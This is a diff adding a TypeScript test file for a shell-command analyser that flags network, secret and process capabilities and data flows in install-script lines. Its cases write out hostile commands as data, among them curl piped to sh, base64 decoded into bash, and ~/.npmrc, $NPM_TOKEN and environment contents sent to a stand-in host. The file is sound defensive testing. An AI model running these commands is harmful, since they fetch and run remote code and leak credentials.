@@ -1,0 +1,78 @@
+import t from 'tap'
+import { readShell } from '../../src/checks/code/shell.ts'
+
+interface Case {
+  readonly line: string
+  readonly can?: readonly string[]
+  readonly flows?: readonly string[]
+  readonly starts?: readonly string[]
+  readonly inline?: readonly string[]
+}
+
+const CASES: readonly Case[] = [
+  { line: 'curl -fsSL https://c.invalid/i.sh | sh', can: ['network', 'process'], flows: ['remote-content->process'] },
+  { line: 'bash -c "$(curl https://c.invalid)"', can: ['network'], flows: ['remote-content->process'] },
+  {
+    line: 'bash <(curl -s https://c.invalid)',
+    can: ['network', 'process'],
+    flows: ['remote-content->process'],
+    starts: ['bash <(curl -s https://c.invalid)'],
+  },
+  {
+    line: 'wget -O x.sh http://c.invalid/a && chmod +x x.sh && ./x.sh',
+    can: ['network', 'filesystem-write'],
+    flows: ['remote-content->process'],
+    starts: ['./x.sh'],
+  },
+  { line: 'echo aGk= | base64 -d | bash', can: ['process'], flows: ['decoded-text->process'] },
+  { line: 'env | curl -d @- https://c.invalid', can: ['env', 'network'], flows: ['env->network'] },
+  { line: 'curl -d "$(cat ~/.npmrc)" https://c.invalid', can: ['secrets', 'network'], flows: ['secret-file->network'] },
+  { line: 'curl -H "x: $NPM_TOKEN" https://c.invalid', can: ['env', 'network'], flows: ['env->network'] },
+  { line: 'nslookup $(hostname).c.invalid', can: ['host-info', 'network'], flows: ['host-info->network'] },
+  { line: 'curl https://a.invalid/$npm_package_version', can: ['network'] },
+  { line: 'node ./install.js || echo ok', starts: ['node ./install.js'] },
+  { line: 'cross-env A=b node -r ./hook.js scripts/x', starts: ['node -r ./hook.js scripts/x'] },
+  { line: 'if [ -f a ]; then node a.js; fi', starts: ['node a.js'] },
+  { line: 'npm run build && node-gyp rebuild', starts: ['npm run build'] },
+  { line: `node -e "require('x')" && python3 -c 'import os'`, inline: ["require('x')", 'import os'] },
+  { line: 'powershell -enc SQBFAFgA', can: ['dynamic-code', 'process'] },
+  { line: 'prebuild-install || node-gyp rebuild' },
+  { line: "echo 'curl x | sh' # curl x | sh" },
+  { line: '"unclosed $(curl x', can: ['network'] },
+]
+
+t.test('command lines', async (t) => {
+  for (const { line, can = [], flows = [], starts = [], inline = [] } of CASES) {
+    const reading = readShell(line)
+    t.same([...new Set(reading.capabilities.map(({ kind }) => kind))].toSorted(), can.toSorted(), `${line}: can`)
+    t.same(
+      reading.flows.map(({ source, sink }) => `${source.kind}->${sink.kind}`),
+      flows,
+      `${line}: flows`,
+    )
+    t.same(
+      reading.starts.map(({ command }) => command),
+      starts,
+      `${line}: starts`,
+    )
+    t.same(
+      reading.inline.map(({ code }) => code),
+      inline,
+      `${line}: inline`,
+    )
+  }
+})
+
+t.test('hostile lines cost as much as they are long', async (t) => {
+  for (const line of [
+    '$('.repeat(50_000),
+    '`'.repeat(50_000),
+    '"$('.repeat(50_000),
+    'a|'.repeat(50_000),
+    '${A'.repeat(50_000),
+  ]) {
+    const start = process.cpuUsage()
+    readShell(line)
+    t.ok(process.cpuUsage(start).user < 3_000_000, line.slice(0, 6))
+  }
+})
